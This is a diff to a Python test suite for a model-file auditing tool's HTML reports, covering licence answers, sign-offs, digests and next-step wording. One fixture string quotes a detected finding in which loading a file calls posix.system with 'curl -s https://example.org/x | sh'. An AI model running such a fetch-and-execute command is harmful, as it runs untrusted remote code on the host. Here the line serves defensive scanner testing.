@@ -15,7 +15,7 @@ from support.decisions import answer_use, build_decision
 import modelaudit.reports
 from modelaudit.model.acceptance import Acceptance, AcceptanceSource
 from modelaudit.model.description import Confidence, Contradiction, Fact, ModelDescription, Topic
-from modelaudit.model.finding import CheckFamily
+from modelaudit.model.finding import CheckFamily, Severity
 from modelaudit.model.license import Basis, ClauseQuotation, ConclusionState, TextChange
 from modelaudit.model.report import AuditReport, Coverage, Extent
 from modelaudit.model.signoff import ControlEvidence, SignOff, SignOffAnswer, SignOffState
@@ -23,11 +23,12 @@ from modelaudit.model.structure import Location
 from modelaudit.model.terms import Answer, Clause
 from modelaudit.model.verdict import Verdict
 from modelaudit.reports import wording
-from modelaudit.reports.answers import QUESTIONS, list_rulings
+from modelaudit.reports.answers import QUESTIONS, list_rulings, name_answer
 from modelaudit.reports.finding_groups import MOST_ROWS
 from modelaudit.reports.html import format_css_string, render_html
 from modelaudit.reports.inventory import compute_tree_digest
 from modelaudit.reports.json_report import compute_report_digest, parse_report, render_json
+from modelaudit.reports.officer_steps import DO_NOT_LOAD, list_steps
 from modelaudit.reports.results import ResultKind, list_results
 
 VOID = frozenset({"meta", "input", "br"})
@@ -173,7 +174,7 @@ FACTS = (
     "Named as a base model or a data set.",
     "Not looked up: its licence may bind you too",
     "Ship the licence. Give everyone who receives the model a copy of the licence. section 4(a)",
-    "Terms verified on 2026-11-20.",
+    "Terms read for the rule set on 2026-11-20.",
     "These terms are not verified against the licence text.",
     "Loading the file calls a function that can run commands",
     "Loading it calls posix.system with the argument 'curl -s https://example.org/x | sh'.",
@@ -345,7 +346,7 @@ def test_page_states_the_digest_of_all_files_once_or_why_none_can_be_given(
     passing: AuditReport, failing: AuditReport, incomplete: AuditReport
 ) -> None:
     text = parse_page(passing).text
-    assert text.count(f"Tree digest {compute_tree_digest(passing)} ") == 1
+    assert text.count(f"Tree digest (one number for all files) {compute_tree_digest(passing)} ") == 1
     assert all(field in text for field in ("Intended use", "valid until", "Second signature"))
     assert "if you decide against the verdict" not in text
     assert "if you decide against the verdict" in parse_page(failing).text
@@ -364,10 +365,10 @@ def test_sign_off_names_the_parties_of_the_policy_and_the_recorded_answers(passi
     text = parse_page(report).text
     block = text[text.index("Sign-off Organisation") :]
     assert block.startswith("Sign-off Organisation Acme Audit Reference MR-2026-14 Reviewer Jane Roe ")
-    assert "Approved: we read it. Binds what this report judges. decisions.yaml:4, MR-2026-14" in block
+    assert "Approved: we read it. Answers this report. decisions.yaml:4, MR-2026-14" in block
     assert "Jane Roe, counselMax Muster2026-11-24 to 2027-05-01" in block
     assert block.index("Jane Roe, counsel") < block.index("Ann Other")
-    assert "Binds another report on this model, and does not count here." in block
+    assert "Answers another report on this model, and does not count here." in block
     assert (
         f"@top-left {{ content: {format_css_string('Acme Audit · MR-2026-14 · tiny')}; }}" in parse_page(report).style
     )
@@ -449,13 +450,13 @@ def test_every_text_color_of_the_style_sheet_is_among_those_whose_contrast_is_ch
 
 def test_license_section_of_the_html_page_shows_the_answer_with_reasons_and_evidence(conflicting: AuditReport) -> None:
     text = parse_page(conflicting).text
-    planned = "Planned use commercial use, giving copies to others"
+    planned = "Planned use Commercial use, giving copies to others"
     section = text[text.index("Annex B Licence" if "Annex B Licence" in text else "Annex A Licence") :]
     assert planned in text and planned not in section
     parts = (
         "Reasons against your planned use, and open points for a person to decide, worst first",
         "Inherited: quantized from acme/tiny-instruct, fine-tuned from acme/tiny-root.",
-        "LicenseRef-Llama-3.1, section 2 Read on 2026-11-24",
+        "LicenseRef-Llama-3.1, section 2 Read for the rule set on 2026-11-24",
         "Statements that differ, and items that are missing",
         "README.md line 2: “apache-2.0”",
         "Limits of use: check these first",
@@ -506,7 +507,7 @@ def test_html_page_ticks_no_duty_and_names_the_file_that_the_repository_holds_fo
     assert "Ship the licence (Apache-2.0, section 4(a)); the repository holds it: LICENSE." in page.text
     assert "Apache-2.0 permits the planned use, with 2 duties." in page.text
     assert '<div class="callout pass">' in html
-    assert "Terms verified on 2026-11-20." in page.text
+    assert "Terms read for the rule set on 2026-11-20." in page.text
 
 
 def test_html_page_states_that_duties_of_a_denied_use_apply_only_under_an_agreement(conflicting: AuditReport) -> None:
@@ -568,7 +569,8 @@ def test_numbers_and_answers_that_the_page_states_in_several_places_are_equal(an
         assert f"unexamined parts {wording.count_noun(len(any_report.findings), 'finding')}" in text
     absences = sum(len(record.absences) for record in any_report.coverage.artifacts)
     if absences:
-        assert f"{absences:,} not examined" in text and f"Not examined {wording.count_noun(absences, 'part')} " in text
+        assert f"{absences:,} not examined" in text or f"{absences:,} not verified" in text
+        assert f"Not examined {wording.count_noun(absences, 'part')} " in text
     assert ("every file was examined completely" in text) is any_report.coverage.is_complete
     files = wording.count_noun(any_report.coverage.file_count, "file")
     assert not any_report.coverage.artifacts or text.count(f"{files}, ") >= 2
@@ -577,7 +579,9 @@ def test_numbers_and_answers_that_the_page_states_in_several_places_are_equal(an
     assert f"is {decision.verdict}:" in text and f"Exit code {any_report.exit_code}, {decision.verdict}" in text
     assert f'content: "Verdict: {decision.verdict.capitalize()}"' in page.style
     for question, ruling in list_rulings(any_report):
-        assert f"{QUESTIONS[question]} {ruling.verdict.capitalize()}." in text
+        answer = name_answer(any_report, question)
+        assert f"{QUESTIONS[question]} {answer}." in text
+        assert answer in ("Not checked", ruling.verdict.capitalize())
     has_consent = any(each.acceptance for each in results) or any_report.decisions
     assert ("no person and no policy accepted a risk" in text) is not bool(has_consent)
 
@@ -667,3 +671,32 @@ def test_same_reason_for_several_files_is_stated_once_on_the_first_page(failing:
     report = replace(failing, decision=replace(failing.decision, reasons=reasons))
     head = parse_page(report).text.partition("Exit code")[0]
     assert len(reasons) > 2 and head.count("it calls os.system") == 1
+
+
+def test_load_box_of_a_pass_states_the_findings_below_the_threshold(passing: AuditReport, failing: AuditReport) -> None:
+    finding = replace(failing.findings[0], severity=Severity.MEDIUM, message="The data are too short", acceptance=None)
+    head = parse_page(replace(passing, findings=(finding,))).text.partition("Sign-off")[0]
+    assert f"Below the threshold: 1 medium. {finding.artifact}: The data are too short." in head
+    assert "Below the threshold" not in parse_page(passing).text.partition("Sign-off")[0]
+
+
+def test_next_step_of_every_report_says_what_the_person_does(any_report: AuditReport) -> None:
+    steps = list_steps(any_report)
+    text = parse_page(any_report).text
+    assert steps and all(step.person[:20] in text for step in steps)
+    critical = any(
+        each.severity is Severity.CRITICAL and each.check is not CheckFamily.LICENSE and each.acceptance is None
+        for each in any_report.findings
+    )
+    assert steps[0].person.startswith(DO_NOT_LOAD) is critical
+    assert not any("modelaudit" in step.person or " --" in step.person for step in steps)
+    assert "named above" not in text and "No decision is needed" not in text
+
+
+def test_first_page_names_who_signed_off_the_model(passing: AuditReport) -> None:
+    signoff = SignOff(
+        *("a" * 64, SignOffAnswer.APPROVE, "we read it", "Ann", "counsel", ""),
+        *("2026-11-20", "2027-11-20", SignOffState.VALID, "decisions.yaml:4"),
+    )
+    head = parse_page(replace(passing, signoffs=(signoff,))).text.partition("Ask first")[0]
+    assert "Signed off Approved by Ann until 2027-11-20." in head and "no person" not in head
